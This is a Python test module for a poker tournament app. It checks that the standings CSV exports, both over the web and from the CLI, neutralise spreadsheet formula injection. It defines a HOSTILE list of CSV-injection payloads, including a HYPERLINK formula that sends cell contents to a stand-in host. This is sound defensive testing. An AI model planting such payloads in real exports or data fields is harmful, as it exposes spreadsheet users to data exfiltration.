"""Every CSV the product writes goes through one cell writer (issue 23, item 4).

The tournament standings CSV (``GET …/standings.csv``, ``pokertd prize standings --csv``)
wrote names such as ``=HYPERLINK(…)``, ``=1+2`` and ``@cmd`` raw, so the spreadsheet the
cashier opens would run them; the league and series CSVs already quoted them. Now all of
them go through :func:`pokertd.sheets.csv_text`.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from typer.testing import CliRunner

import pokertd
from pokertd.cli import app
from pokertd.tournament.entries import CreateTournament, Register
from pokertd.tournament.templates import load_template

from .conftest import FLOOR_PW, Env

HOSTILE = ('=HYPERLINK("http://x.example/?"&A1,"Click")', "=1+2", "@cmd", "+SUM(A1)", "-2+3")
"""Names a spreadsheet would run as formulas (OWASP's CSV injection list)."""


def _night(env: Env) -> str:
    svc = env.service
    tid = svc.create(CreateTournament(name="CSV night", template=load_template("fox_saturday")))
    for n in (*HOSTILE, "Ann Lee"):
        svc.run(tid, Register(name=n, member="1234", age_ok=True), actor="floor")
    return tid


def _names(text: str) -> dict[str, str]:
    """Each ``name`` cell of the CSV ``text``, keyed by the name as registered."""
    cells = [r["name"] for r in csv.DictReader(io.StringIO(text))]
    return {c.removeprefix("'"): c for c in cells}


def test_tournament_standings_csv_over_the_web_writes_formulas_as_text(env: Env) -> None:
    tid = _night(env)
    env.login("floor1", FLOOR_PW)
    r = env.client.get(f"/api/tournaments/{tid}/standings.csv")
    assert r.status_code == 200, r.text
    names = _names(r.text)
    for name in HOSTILE:
        assert names[name] == "'" + name
    assert names["Ann Lee"] == "Ann Lee"
    for raw in ("\n=", ",=", "\n@", ",@", "\n+", ",+"):
        assert raw not in r.text


def test_prize_standings_csv_in_the_cli_writes_formulas_as_text(env: Env) -> None:
    tid = _night(env)
    result = CliRunner().invoke(app, ["prize", "standings", tid, "--csv", "-", "--db", env.url])
    assert result.exit_code == 0, result.output
    names = _names(result.stdout)
    assert {names[n] for n in HOSTILE} == {"'" + n for n in HOSTILE}
    assert names["Ann Lee"] == "Ann Lee"


def test_every_csv_goes_through_the_one_cell_writer() -> None:
    """No module but ``pokertd.sheets`` imports ``csv`` to write: a new export cannot forget
    to neutralise formulas (the tournament standings CSV had its own writer and did)."""
    src = Path(pokertd.__file__).resolve().parent
    writers = sorted(
        str(p.relative_to(src))
        for p in src.rglob("*.py")
        if re.search(r"^\s*(import csv|from csv import)", p.read_text(encoding="utf-8"), re.M)
    )
    assert writers == ["sheets.py"]
